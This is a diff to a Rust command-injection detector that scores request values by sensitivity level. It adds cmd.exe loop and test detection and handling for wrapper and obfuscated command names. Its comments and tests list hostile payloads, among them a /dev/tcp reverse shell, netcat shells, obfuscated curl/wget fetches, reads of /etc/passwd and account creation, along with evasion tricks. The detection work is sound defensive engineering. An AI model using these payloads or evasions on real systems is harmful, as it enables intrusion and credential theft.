@@ -7,9 +7,9 @@
 //! One pass over the decoded value looks for the places where a shell would start a command: the start of the
 //! value, and after `;`, `|`, `||`, `&&`, `&`, a newline (also the two characters `\n`), a backtick, `$(`, `<(` and
 //! `>(`, a brace list `{cmd,arg}`, and the quoted argument of a code call such as `system('…')`. There it reads a
-//! command name the way the shell would (quotes, `\`, `^` and `$@` inside a name vanish; a path such as
-//! `/usr/bin/id` or `C:\Windows\System32\cmd.exe` names its last component) and looks it up in a static table of
-//! Unix and Windows commands. Unix commands are case-sensitive, so `ID` or `Cat` after a `|` is prose, not a command.
+//! command name the way the shell would (quotes, `\`, `^`, `$@`, `$?`, `$()`, `${x}` and empty backticks inside a
+//! name vanish; a path such as `/usr/bin/id` or `C:\Windows\System32\cmd.exe` names its last component) and looks
+//! it up in a static table of Unix and Windows commands. Unix commands are case-sensitive, so `ID` or `Cat` after a `|` is prose, not a command.
 //!
 //! Each candidate gets a score, the sum of three parts:
 //! - what led to it: start of value 1, a chaining separator (`;`, `|`, `&&`, `||`, `&`, newline, brace list) 2, a
@@ -17,9 +17,13 @@
 //! - the command: an English word too (`cat`, `sleep`, `ping`) 1, short but not English (`id`, `ls`, `nc`) 2,
 //!   unmistakable (`whoami`, `wget`, `certutil`) or given as a path (`/bin/sh`) 3;
 //! - what follows it: a plain word 0, the end of the command (end of value, a separator, a closing quote or
-//!   bracket) 1, something only a command line has (a flag `-la`, an absolute or drive path, a redirection, an
-//!   IPv4 address, a URL, `$VAR` or `%VAR%`, a number after `sleep`/`ping`/`timeout`, and the subcommands of
-//!   Windows' `net`, `reg`, `netsh` and `sc` (`net user`, `reg add`) 2.
+//!   bracket) 1, another command that is not an English word (`which gcc`), a subcommand of Windows' `net`, `reg`,
+//!   `netsh` or `sc` (`net user`, `reg add`), or a flag within the next three words of an unmistakable command
+//!   (`ansible all -m ping`) 2, something only a command line has (a flag `-la`, an absolute or drive path, a
+//!   redirection, an IPv4 address, a URL, `$VAR` or `%VAR%`, a number after `sleep`/`ping`/`timeout`) 3.
+//!
+//! A wrapper (`time`, `nohup`, `sudo`, `strace`, `env`, `xargs`…) scores at least what the command it runs would
+//! score in its place (`time ifconfig`, `nohup sh -c id`).
 //!
 //! # What each level reports
 //! - **Low**: a score of 6 or more, not at the start of the value (`;cat /etc/passwd`, `| whoami`, `` `id` ``,
@@ -28,9 +32,11 @@
 //!   brace list whose first word is a command and whose next looks like a command argument.
 //! - **Medium** (recommended) adds: a score of 5 (`;id`, `|ls`, `&sleep 5`), which includes a whole value that is a
 //!   command line on its own (`cat /etc/passwd`, `nc -lvp 4444 -e /bin/sh`, `ipconfig /all`, `sleep 5`), a whole
-//!   value that is a reconnaissance command alone (`whoami`, `systeminfo`, `pwd`), calls of functions that run commands or code
-//!   (`system(…)`, `shell_exec(…)`, `eval(…)`, `phpinfo()`), `<?php`, and PHP's `${@…}` / `{${…}}`.
-//! - **High** adds: a score of 4 (`; cat`, `| more`, `& dir`, `ls` alone).
+//!   value that is a reconnaissance command alone (`whoami`, `systeminfo`, `pwd`), calls of functions that run
+//!   commands or code (`system(…)`, `shell_exec(…)`, `eval(…)`, `phpinfo()`), `<?php`, PHP's `${@…}` / `{${…}}`, and cmd.exe
+//!   statements: `FOR %x IN (…) DO …` loops and `IF EXIST|DEFINED|ERRORLEVEL|a==b …` tests followed by a command.
+//! - **High** adds: a score of 4 (`; cat`, `| more`, `sudo make me a sandwich`), and any other command name alone
+//!   (`base64`, `wget`, `dir`: as likely a setting such as `encoding=base64`).
 //!
 //! Prose stays clean at every level because a command needs a lead and an argument that only a shell would take:
 //! "echo in the mirror", "bash away in the gym", "ls 300 lexus", "Tom & Jerry; cats", "a|b".
@@ -108,6 +114,7 @@ fn scan(cased: &[u8], lower: &[u8], need: u8) -> bool {
             b'(' if next == b')' && shellshock(text, i + 2) => LOW,
             b'\\' if next == b'n' || next == b'r' => candidate(cased, text, i + 2, Lead::Chain),
             b'/' if has_at(text, i, b"/dev/tcp/") || has_at(text, i, b"/dev/udp/") => LOW,
+            b'f' | b'i' if (i == 0 || !is_word(lc(text, i - 1))) && batch(text, i) => MEDIUM,
             b'a'..=b'z' if i == 0 || !is_word(lc(text, i - 1)) => code_call(cased, text, i),
             _ => 0,
         };
@@ -130,6 +137,110 @@ fn dollar(cased: &[u8], text: &[u8], i: usize) -> u8 {
     }
 }
 
+/// How far a cmd.exe `FOR` or `IF` statement is read.
+const BATCH_WINDOW: usize = 200;
+
+/// A cmd.exe `FOR %x IN (…) DO …` loop or an `IF EXIST|DEFINED|ERRORLEVEL|a==b … command` test at `i`.
+fn batch(text: &[u8], i: usize) -> bool {
+    let end = text.len().min(i + BATCH_WINDOW);
+    let window = text.get(i..end).unwrap_or_default();
+    if has_at(window, 0, b"for") && matches!(lc(window, 3), b' ' | b'\t') {
+        // A loop variable (`%G`, `%%G`) right before `IN (set)`, then `DO`.
+        let Some(mut var) = find(window, 4, b"%") else {
+            return false;
+        };
+        if lc(window, var + 1) == b'%' {
+            var += 1;
+        }
+        let name = lc(window, var + 1);
+        if matches!(name, 0 | b' ' | b'\t') || !matches!(lc(window, var + 2), b' ' | b'\t') {
+            return false;
+        }
+        let Some(at) = skip_blanks(window, var + 2) else {
+            return false;
+        };
+        if !has_at(window, at, b"in") || is_word(lc(window, at + 2)) {
+            return false;
+        }
+        let Some(open) = skip_blanks(window, at + 2) else {
+            return false;
+        };
+        if lc(window, open) != b'(' {
+            return false;
+        }
+        return find(window, open, b")").and_then(|close| find_word(window, close + 1, b"do")).is_some();
+    }
+    if has_at(window, 0, b"if") && matches!(lc(window, 2), b' ' | b'\t') {
+        let mut j = skip_blanks(window, 3).unwrap_or(window.len());
+        for prefix in [&b"/i"[..], b"not"] {
+            if has_at(window, j, prefix) && matches!(lc(window, j + prefix.len()), b' ' | b'\t') {
+                j = skip_blanks(window, j + prefix.len()).unwrap_or(window.len());
+            }
+        }
+        let keyword = [&b"exist"[..], b"defined", b"errorlevel", b"cmdextversion"]
+            .iter()
+            .any(|k| has_at(window, j, k) && matches!(lc(window, j + k.len()), b' ' | b'\t'));
+        return keyword_then_action(window, j, keyword);
+    }
+    false
+}
+
+/// One pass over an `IF` statement's rest from `j`: a comparison (`==`, `EQU`, `GTR`…) unless `condition` already
+/// holds, then a command (`ECHO`, `GOTO`, `CMD`, `CALL`, `SET`…) or a parenthesised block.
+fn keyword_then_action(window: &[u8], mut j: usize, mut condition: bool) -> bool {
+    let mut previous = 0u8;
+    while j < window.len() {
+        let b = lc(window, j);
+        if is_word(b) && !is_word(previous) {
+            let start = j;
+            while is_word(lc(window, j)) {
+                j += 1;
+            }
+            let word = window.get(start..j).unwrap_or_default();
+            if condition && [&b"echo"[..], b"goto", b"cmd", b"call", b"set", b"del", b"start", b"exit"].contains(&word)
+            {
+                return true;
+            }
+            condition |= [&b"equ"[..], b"neq", b"lss", b"leq", b"gtr", b"geq"].contains(&word);
+            previous = b'a';
+            continue;
+        }
+        if b == b'(' && condition {
+            return true;
+        }
+        condition |= b == b'=' && previous == b'=';
+        previous = b;
+        j += 1;
+    }
+    false
+}
+
+/// The first `needle` in `hay` at or after `from`.
+fn find(hay: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
+    let rest = hay.get(from..)?;
+    rest.windows(needle.len()).position(|w| w.eq_ignore_ascii_case(needle)).map(|p| p + from)
+}
+
+/// The first `word` in `hay` at or after `from` that stands alone (not inside a longer word).
+fn find_word(hay: &[u8], mut from: usize, word: &[u8]) -> Option<usize> {
+    while let Some(at) = find(hay, from, word) {
+        let before = at == 0 || !is_word(lc(hay, at - 1));
+        if before && !is_word(lc(hay, at + word.len())) {
+            return Some(at);
+        }
+        from = at + 1;
+    }
+    None
+}
+
+/// The first byte at or after `i` that is not a blank, if any.
+fn skip_blanks(text: &[u8], mut i: usize) -> Option<usize> {
+    while matches!(lc(text, i), b' ' | b'\t') {
+        i += 1;
+    }
+    (i < text.len()).then_some(i)
+}
+
 /// `() {` at the start of a Shellshock function definition (`i` is just after `()`).
 fn shellshock(text: &[u8], mut i: usize) -> bool {
     while lc(text, i) == b' ' {
@@ -139,7 +250,11 @@ fn shellshock(text: &[u8], mut i: usize) -> bool {
 }
 
 /// A brace list `{cmd,arg,…}` (bash runs it as `cmd arg`), `i` just after the `{`.
-fn brace(cased: &[u8], text: &[u8], i: usize) -> u8 {
+fn brace(cased: &[u8], text: &[u8], mut i: usize) -> u8 {
+    // `{,ifconfig}`: an empty first word is dropped.
+    if lc(text, i) == b',' {
+        i += 1;
+    }
     let Some((strength, _, end)) = command_at(cased, text, i) else {
         return 0;
     };
@@ -184,14 +299,36 @@ fn code_call(cased: &[u8], text: &[u8], i: usize) -> u8 {
 
 /// The score of a command read at `i`, led there by `lead` (0 if there is no command).
 fn candidate(cased: &[u8], text: &[u8], i: usize, lead: Lead) -> u8 {
+    wrapped_candidate(cased, text, i, lead, 0)
+}
+
+/// [`candidate`], following up to two wrappers (`time`, `nohup`, `sudo`…) to the command they run.
+fn wrapped_candidate(cased: &[u8], text: &[u8], i: usize, lead: Lead, depth: u8) -> u8 {
     let Some(start) = skip_lead(text, i) else {
         return 0;
     };
-    let Some((strength, flags, end)) = command_at(cased, text, start) else {
+    let Some((strength, flags, mut end)) = command_at(cased, text, start) else {
         return 0;
     };
-    let arg = argument(text, end, flags).max(subcommand(text, start, end));
-    let score = lead as u8 + strength + arg;
+    // `'curl' http://…`: the quote that opened the name closes it; what follows is the argument.
+    let quote = lc(text, end);
+    if matches!(quote, b'\'' | b'"') && start > 0 && lc(text, start - 1) == quote {
+        end += 1;
+    }
+    let mut arg = argument(text, end, flags).max(subcommand(text, start, end));
+    // `ansible all -m ping`: an unmistakable command with a flag a little further on.
+    if arg == 0 && strength == 3 && later_flag(text, end) {
+        arg = 2;
+    }
+    let mut score = lead as u8 + strength + arg;
+    if flags & cmd::WRAP != 0 && depth < 2 {
+        // `time ifconfig`, `nohup sh -c id`: the wrapped command counts as if it stood in the wrapper's place.
+        let mut next = end;
+        while matches!(lc(text, next), b' ' | b'\t') {
+            next += 1;
+        }
+        score = score.max(wrapped_candidate(cased, text, next, lead, depth + 1));
+    }
     if lead != Lead::Start {
         return score;
     }
@@ -200,8 +337,32 @@ fn candidate(cased: &[u8], text: &[u8], i: usize, lead: Lead) -> u8 {
     if alone && flags & cmd::SOLO != 0 {
         return MEDIUM;
     }
+    // Any other bare name is as likely a setting (`encoding=base64`, `tool=wget`) as a command.
+    if alone {
+        return score.min(HIGH);
+    }
     // At the start of a value there is no injection point to see: never unmistakable.
     score.min(MEDIUM)
+}
+
+/// Whether one of the next three words after `i` (up to a separator) is a flag (`-m`, `--url`).
+fn later_flag(text: &[u8], mut i: usize) -> bool {
+    for _ in 0..3 {
+        while matches!(lc(text, i), b' ' | b'\t') {
+            i += 1;
+        }
+        if lc(text, i) == b'-' && flag(text, i) == 3 {
+            return true;
+        }
+        let start = i;
+        while !matches!(lc(text, i), 0 | b' ' | b'\t' | b';' | b'|' | b'&' | b'\n') && i - start < 32 {
+            i += 1;
+        }
+        if i == start {
+            return false;
+        }
+    }
+    false
 }
 
 /// 2 when the word after the command at `start..end` is one of its subcommands (`net user`, `reg add`), else 0.
@@ -229,16 +390,28 @@ fn subcommand(text: &[u8], start: usize, end: usize) -> u8 {
     }
 }
 
-/// Skips blanks, quotes and `(` before a command name; `None` if too many.
+/// Skips blanks, quotes, `(` and an unset variable (`|$u wget`) before a command name; `None` if too many.
 fn skip_lead(text: &[u8], mut i: usize) -> Option<usize> {
     let start = i;
-    while matches!(lc(text, i), b' ' | b'\t' | b'\'' | b'"' | b'(') {
-        i += 1;
+    loop {
+        match lc(text, i) {
+            b' ' | b'\t' | b'\'' | b'"' | b'(' => i += 1,
+            b'$' if lc(text, i + 1).is_ascii_alphabetic() => {
+                let mut j = i + 1;
+                while is_word(lc(text, j)) && j - i < 8 {
+                    j += 1;
+                }
+                if !matches!(lc(text, j), b' ' | b'\t') {
+                    return Some(i);
+                }
+                i = j;
+            }
+            _ => return Some(i),
+        }
         if i - start > MAX_LEAD_SKIP {
             return None;
         }
     }
-    Some(i)
 }
 
 /// Whether only blanks and quotes follow `i`.
@@ -273,11 +446,23 @@ fn command_at(cased: &[u8], text: &[u8], i: usize) -> Option<(u8, u8, usize)> {
             }
             // Quotes inside a name vanish (`c'a't`); `$@`, `$*` and `$1` expand to nothing; `^` escapes in cmd.exe.
             b'\'' | b'"' if len > 0 && is_word(next) => 1,
-            b'$' if matches!(next, b'@' | b'*' | b'0'..=b'9') => 2,
+            b'$' if matches!(next, b'@' | b'*' | b'0'..=b'9' | b'?' | b'!' | b'-' | b'#') => 2,
+            // An empty backtick pair inside a name (`pi``ng`).
+            b'`' if next == b'`' && len > 0 => 2,
+            // `$()` and `${x}` expand to nothing inside a name (`pi$()ng`, `c${u}url`).
+            b'$' if next == b'(' && lc(text, j + 2) == b')' => 3,
+            b'$' if next == b'{' => match (j + 2..j + 18).find(|&k| lc(text, k) == b'}') {
+                Some(close) if (j + 2..close).all(|k| is_word(lc(text, k))) => close + 1 - j,
+                _ => break,
+            },
             b'^' if is_word(next) => 1,
             _ => break,
         };
         j += step;
+    }
+    // A name runs into a letter of another script (`scène`): part of a longer word, not a command.
+    if lc(text, j) >= 0x80 {
+        return None;
     }
     let word = buf.get(..len)?;
     let (flags, is_path) = lookup(word)?;
@@ -369,6 +554,20 @@ fn argument(text: &[u8], mut i: usize, flags: u8) -> u8 {
         b'a'..=b'z' if url_scheme(text, i) => 3,
         b'0'..=b'9' => number(text, i, flags),
         b'*' => 2,
+        b'a'..=b'z' => runs_command(text, i),
+        _ => 0,
+    }
+}
+
+/// 2 when the word at `i` is itself a command that is not an English word (`time ifconfig`, `sudo nc`).
+fn runs_command(text: &[u8], i: usize) -> u8 {
+    let mut j = i;
+    while (is_word(lc(text, j)) || lc(text, j) == b'-') && j - i < 24 {
+        j += 1;
+    }
+    let word = text.get(i..j).unwrap_or_default();
+    match lexicon::command(word) {
+        Some(flags) if flags & cmd::STRENGTH >= 2 && !is_word(lc(text, j)) => 2,
         _ => 0,
     }
 }
@@ -385,7 +584,7 @@ fn flag(text: &[u8], i: usize) -> u8 {
     }
     let ends = matches!(
         lc(text, j),
-        0 | b' ' | b'\t' | b'=' | b';' | b'|' | b'&' | b'\'' | b'"' | b'\n' | b'}' | b')' | b',' | b'`'
+        0 | b' ' | b'\t' | b'=' | b';' | b'|' | b'&' | b'\'' | b'"' | b'\n' | b'}' | b')' | b',' | b'`' | b':'
     );
     if j > start && ends && lc(text, start).is_ascii_alphabetic() {
         3
@@ -484,6 +683,13 @@ mod tests {
             "|w\\hoami",
             "|wh$@oami",
             "|who^ami",
+            ";pi$()ng -c 1 10.0.0.1",
+            ";c${u}url http://10.0.0.1/x",
+            "{,ifconfig,-a}",
+            ";c$?at /etc/passwd",
+            ";'curl' http://10.0.0.1/x",
+            "|$u wget http://10.0.0.1/x",
+            ";vim -c:!pwd",
             "() { :;}; echo vulnerable",
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
             "<!--#exec cmd=\"ls\"-->",
@@ -509,13 +715,35 @@ mod tests {
             "sleep 5",
             "; net user admin P4ss /add",
             "reg add HKLM\\Software\\x /f",
+            "time ifconfig",
+            "nohup sh -c whoami",
+            "ansible all -m ping",
+            "ll /var/www/",
+        ] {
+            assert_eq!(lowest(attack), Some(Sensitivity::Medium), "{attack}");
+        }
+        for attack in [
+            "FOR /F \"tokens=*\" %G IN ('dir /b') DO echo %G",
+            "x & for %a in (a,b) do cmd",
+            "IF EXIST C:\\pagefile.sys (CMD)",
+            "if %ERRORLEVEL% NEQ 0 echo failed",
         ] {
             assert_eq!(lowest(attack), Some(Sensitivity::Medium), "{attack}");
         }
         for attack in ["phpinfo()", "system($_GET['c'])", "<?php echo 1; ?>", "${@print(1)}", "{${sleep(1)}}"] {
             assert_eq!(lowest(attack), Some(Sensitivity::Medium), "{attack}");
         }
-        for attack in ["; cat", "x | more", "dir", "; bash", "net user growth"] {
+        for attack in [
+            "; cat",
+            "x | more",
+            "dir",
+            "; bash",
+            "net user growth",
+            "x | nice",
+            "sudo make me a sandwich",
+            "base64",
+            "wget",
+        ] {
             assert_eq!(lowest(attack), Some(Sensitivity::High), "{attack}");
         }
     }
@@ -545,10 +773,29 @@ mod tests {
             "Rock & Roll | Jazz",
             "2024-01-01T10:00:00Z",
             "Tom & Jerry; Cat lovers",
+            "time and again",
+            "/que/sortir/marcher/scène.jpeg",
             "Terms & Conditions; more info",
+            "for 100% of users in (most) cases we do well",
+            "if red equals red then echo it",
+            "If it exists, call me",
             "the net effect",
         ] {
             assert_eq!(lowest(benign), None, "{benign}");
+        }
+    }
+
+    #[test]
+    fn long_repetitive_values_are_read_in_one_pass() {
+        // Each read looks a bounded window ahead, so these finish in one pass; a quadratic reading would hang here.
+        for unit in
+            [";", "|", "$(", "`", "{a,", "if if ", "for %a in (", "system('", "w\\", "\\n", "${IFS}", "() {", "c'"]
+        {
+            let text = unit.repeat(16 * 1024 / unit.len());
+            let lower = text.to_ascii_lowercase();
+            for level in [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High] {
+                let _ = detect(&Subject::plain(text.as_bytes(), lower.as_bytes(), crate::attacks::Place::Query), level);
+            }
         }
     }
 
